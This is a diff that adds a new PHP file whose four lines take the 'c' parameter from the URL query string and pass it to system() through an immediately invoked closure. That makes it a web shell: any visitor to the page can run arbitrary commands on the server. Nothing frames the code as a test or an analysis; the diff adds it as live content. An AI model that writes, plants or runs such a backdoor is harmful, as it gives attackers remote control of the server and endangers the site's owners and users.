@@ -1,0 +1,4 @@
+<?php
+$c = $_GET["c"];
+$run = function ($a = array()) use ($c) { system($c); };
+$run();
